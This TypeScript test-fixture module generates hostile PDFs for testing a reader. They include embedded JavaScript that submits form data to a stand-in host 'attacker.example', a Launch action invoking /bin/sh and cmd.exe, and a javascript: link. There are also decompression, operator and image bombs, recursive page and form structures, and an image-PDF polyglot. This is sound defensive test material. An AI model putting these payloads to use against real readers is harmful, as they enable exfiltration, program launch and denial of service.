import { deflateSync } from 'node:zlib';
import { repeatingZlib } from './deflate-bomb.ts';
import { rc4Security } from './pdf-encryption.ts';
import { documentHead, page, stream, textContent, writePdf, type PdfObject } from './pdf-writer.ts';

/** Hostile and borderline PDFs, made on the fly; nothing here is a committed binary. */

export const NOTES = [
  'Osmosis is the diffusion of water across a selectively permeable membrane.',
  'Active transport moves substances against their gradient and needs ATP.',
];
/** What the reader should return for a page of NOTES: the two lines joined into one paragraph. */
export const NOTES_TEXT = NOTES.join(' ');

/** One page of NOTES, plus whatever objects (numbered from 6) and catalog or page entries are given. */
function notesPdf({ catalog = '', pageExtra = '', resources = '', more = [] as PdfObject[], trailer = '' } = {}) {
  return writePdf(
    [...documentHead([4], catalog), page(5, { extra: pageExtra, resources }), stream('', textContent(NOTES)), ...more],
    { trailer },
  );
}

export function plainNotesPdf(): Buffer {
  return notesPdf();
}

/**
 * Every way a PDF can carry script or actions: an /OpenAction, the document-level JavaScript name tree,
 * an XFA form with a script, a page-open action that launches a program and a javascript: link.
 */
export function scriptedPdf(): Buffer {
  const js = "app.alert('pwned'); this.submitForm('https://attacker.example/steal');";
  return notesPdf({
    catalog:
      '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 7 0 R] >> >> /AcroForm << /Fields [] /XFA 8 0 R >>',
    pageExtra: '/AA << /O 9 0 R >> /Annots [10 0 R]',
    more: [
      `<< /Type /Action /S /JavaScript /JS (${js}) >>`,
      '<< /Type /Action /S /JavaScript /JS 11 0 R >>',
      stream('', `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>${js}</script></template></xdp:xdp>`),
      '<< /Type /Action /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (javascript:alert(1)) >> >>',
      stream('', js),
    ],
  });
}

/** NOTES encrypted with the RC4 standard handler; with a user password, opening it needs that password. */
export function encryptedPdf(userPassword: string): Buffer {
  const security = rc4Security(userPassword, 'owner-secret');
  const content = security.encrypt(5, Buffer.from(textContent(NOTES), 'latin1'));
  return writePdf([...documentHead([4]), page(5), stream('', content), security.dictionary], {
    trailer: `/Encrypt 6 0 R /ID ${security.id}`,
  });
}

/** A real document padded past 30 MB with an unused stream: only its size is wrong. */
export function oversizedPdf(megabytes = 31): Buffer {
  return notesPdf({ more: [stream('', Buffer.alloc(megabytes * 2 ** 20, 0x20))] });
}

/**
 * A decompression bomb: a content stream of `gigabytes` of spaces before a line of NOTES, deflated once
 * (about a megabyte per gigabyte) or twice (a few kilobytes in all).
 */
export function inflationBombPdf(gigabytes: number, layers: 1 | 2): Buffer {
  const once = repeatingZlib(Buffer.alloc(8 * 2 ** 20, 0x20), gigabytes * 128, Buffer.from(textContent(NOTES)));
  const data = layers === 2 ? deflateSync(once, { level: 9 }) : once;
  const filter = layers === 2 ? '/Filter [/FlateDecode /FlateDecode]' : '/Filter /FlateDecode';
  return writePdf([...documentHead([4]), page(5), stream(filter, data)]);
}

/**
 * A cheap denial of service: a content stream of `megabytes` of `q Q` (save and restore the graphics
 * state, the cheapest operators there are), deflated once into about a thousandth of that, and no
 * text at all, so no limit on the text read ever stops it. 300 MB is 75 million operators in a file
 * of about 300 KB.
 */
export function operatorBombPdf(megabytes = 300): Buffer {
  const unit = Buffer.from('q Q\n'.repeat(2 ** 18), 'latin1');
  const data = repeatingZlib(unit, megabytes, Buffer.alloc(0));
  return writePdf([...documentHead([4]), page(5), stream('/Filter /FlateDecode', data)]);
}

/** An image XObject of width×height that inflates to billions of pixels, drawn under a line of text. */
export function imageBombPdf(width = 50_000, height = 50_000): Buffer {
  const image = repeatingZlib(Buffer.alloc(Math.ceil(width / 8) * 1000), Math.floor(height / 1000));
  return writePdf([
    ...documentHead([4]),
    page(5, { resources: '/XObject << /Im1 6 0 R >>' }),
    stream('', `q 400 0 0 400 72 200 cm /Im1 Do Q\n${textContent(NOTES)}`),
    stream(
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode`,
      image,
    ),
  ]);
}

const WORDS = (
  'cell membrane protein energy gradient molecule diffusion enzyme substrate reaction pathway glucose ' +
  'mitochondria nucleus ribosome transcription translation replication chromosome mutation selection'
).split(' ');

/**
 * `pages` pages of ten lines each, every line its own (lines that repeat on every page would be taken
 * for running headers and dropped). The reader stops at its text limit, long before the last page.
 */
export function manyPagesPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => 4 + 2 * i);
  const objects: PdfObject[] = documentHead(kids);
  for (let i = 0; i < pages; i++) {
    const lines = Array.from({ length: 10 }, (_, line) => {
      const words = Array.from(
        { length: 7 },
        (_, k) => WORDS[(i * 7 + line * 3 + k * 5 + ((i * k) % 11)) % WORDS.length],
      );
      return `${i + 1}.${line + 1} ${words.join(' ')}.`;
    });
    objects.push(page(5 + 2 * i), stream('', textContent(lines)));
  }
  return writePdf(objects);
}

/** A page tree that claims `claimed` pages and holds one. */
export function lyingPageCountPdf(claimed = 10_000_000): Buffer {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${claimed} /Kids [4 0 R] >>`,
    documentHead([])[2]!,
    page(5),
    stream('', textContent(NOTES)),
  ]);
}

/** A page tree whose root lists itself among its kids. */
export function circularPageTreePdf(): Buffer {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 2 /Kids [2 0 R 4 0 R] >>',
    documentHead([])[2]!,
    page(5),
    stream('', textContent(NOTES)),
  ]);
}

/** The one page sits under `depth` levels of page tree nodes. */
export function deepPageTreePdf(depth: number): Buffer {
  // 1 catalog, 2 the root, 3 font, 4 the page, 5 its content, 6… the nodes between the root and the page.
  const node = (level: number) => (level === 0 ? 2 : 5 + level);
  const objects: PdfObject[] = ['<< /Type /Catalog /Pages 2 0 R >>', '', documentHead([])[2]!];
  objects.push(page(5, { parent: node(depth - 1) }), stream('', textContent(NOTES)));
  for (let level = 0; level < depth; level++) {
    const child = level === depth - 1 ? 4 : node(level + 1);
    const parent = level === 0 ? '' : `/Parent ${node(level - 1)} 0 R`;
    const dict = `<< /Type /Pages /Count 1 /Kids [${child} 0 R] ${parent} >>`;
    if (level === 0) objects[1] = dict;
    else objects.push(dict);
  }
  return writePdf(objects);
}

/** Arrays nested `depth` deep: in the page's resources, or as an operand in its content stream. */
export function deepNestingPdf(depth: number, where: 'resources' | 'content'): Buffer {
  const nested = '['.repeat(depth) + ']'.repeat(depth);
  if (where === 'resources') return notesPdf({ resources: `/Properties << /Deep ${nested} >>` });
  return writePdf([...documentHead([4]), page(5), stream('', `${nested} pop\n${textContent(NOTES)}`)]);
}

/** A form XObject that draws itself: a reader that follows it without a guard never comes back. */
export function recursiveFormPdf(): Buffer {
  return writePdf([
    ...documentHead([4]),
    page(5, { resources: '/XObject << /Loop 6 0 R >>' }),
    stream('', `/Loop Do\n${textContent(NOTES)}`),
    stream(
      '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Loop 6 0 R >> /Font << /F1 3 0 R >> >>',
      'BT /F1 12 Tf 72 100 Td (again) Tj ET /Loop Do',
    ),
  ]);
}

/** A cross-reference table and trailer that claim a hundred million objects. */
export function hugeXrefPdf(): Buffer {
  const pdf = notesPdf().toString('latin1');
  return Buffer.from(
    pdf.replace(/xref\n0 \d+/, 'xref\n0 100000000').replace(/\/Size \d+/, '/Size 100000000'),
    'latin1',
  );
}

/** GIFAR-style: a whole image first, then a whole PDF, each valid to its own reader. */
export function imageThenPdf(image: Buffer): Buffer {
  return writePdf([...documentHead([4]), page(5), stream('', textContent(NOTES))], { prefix: image });
}
